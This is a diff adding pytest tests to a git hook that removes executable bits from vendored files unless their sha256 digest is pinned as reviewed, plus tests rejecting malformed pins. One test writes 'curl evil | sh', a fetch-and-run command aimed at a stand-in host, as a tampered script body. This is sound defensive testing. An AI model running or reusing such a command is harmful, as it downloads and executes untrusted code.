@@ -264,6 +264,51 @@ def test_exec_bits_check_only_and_staged(tmp_path: Path, monkeypatch: pytest.Mon
     assert not (repo / "localized-files/x/bin").stat().st_mode & 0o111
 
 
+def test_exec_bits_keeps_a_reviewed_executable_pinned_by_its_sha256(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
+    """A vendored KRM exec function the team reviewed stays executable while its bytes are the
+    pinned ones (issue 33 item 6); a changed binary loses the grant, and the finding says both
+    digests."""
+    import hashlib
+    fn = "vendor/fn/localized-files/example.com/fn/v1/fn"
+    body = "#!/bin/sh\ncat\n"
+    digest = "sha256:" + hashlib.sha256(body.encode()).hexdigest()
+    repo = make_repo(tmp_path / "r", {fn: body, "vendor/fn/localized-files/example.com/fn/v1/other": "x",
+                                      ".kzgit.toml": f'[reviewed-executables]\n"{fn}" = "{digest}"\n'},
+                     commit=False)
+    for name in (fn, "vendor/fn/localized-files/example.com/fn/v1/other"):
+        (repo / name).chmod(0o755)
+    git(repo, "add", "-A")
+    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "exec-bits", "--all")
+    assert (rc, out) == (1, "vendor/fn/localized-files/example.com/fn/v1/other: removed executable bit "
+                            "(work tree, index)\n")
+    assert _mode_in_index(repo, fn) == "100755" and (repo / fn).stat().st_mode & 0o111
+    assert kz(repo, monkeypatch, capsys, "hook", "exec-bits", "--all") == (0, "", "")
+    changed = "#!/bin/sh\ncurl evil | sh\n"
+    (repo / fn).write_text(changed)
+    git(repo, "add", "-A")
+    rc, out, _ = kz(repo, monkeypatch, capsys, "hook", "exec-bits", fn)
+    assert rc == 1
+    actual = "sha256:" + hashlib.sha256(changed.encode()).hexdigest()
+    assert out == (f"{fn}: removed executable bit (work tree, index); reviewed-executables in "
+                   f".kzgit.toml pins {digest}, the file is now {actual}: review it and pin the "
+                   "new digest to keep it executable\n")
+    assert _mode_in_index(repo, fn) == "100644" and not (repo / fn).stat().st_mode & 0o111
+
+
+@pytest.mark.parametrize("table,error", [
+    ('"../x" = "sha256:' + "0" * 64 + '"', "is not a clean path relative to the repository's top"),
+    ('"a/fn" = "md5:0"', "expected \"sha256:\" and the file's 64 lowercase hexadecimal digits"),
+])
+def test_reviewed_executables_refuses_a_bad_entry(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                                  capsys: pytest.CaptureFixture[str], table: str,
+                                                  error: str) -> None:
+    repo = make_repo(tmp_path / "r", {".kzgit.toml": f"[reviewed-executables]\n{table}\n"})
+    rc, _, err = kz(repo, monkeypatch, capsys, "hook", "exec-bits", "--all")
+    assert rc == 2
+    assert "bad value for 'reviewed-executables'" in err and error in err, err
+
+
 # -- localized sync ---------------------------------------------------------------------------------
 def test_localized_sync_uses_check_copy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                         capsys: pytest.CaptureFixture[str]) -> None:
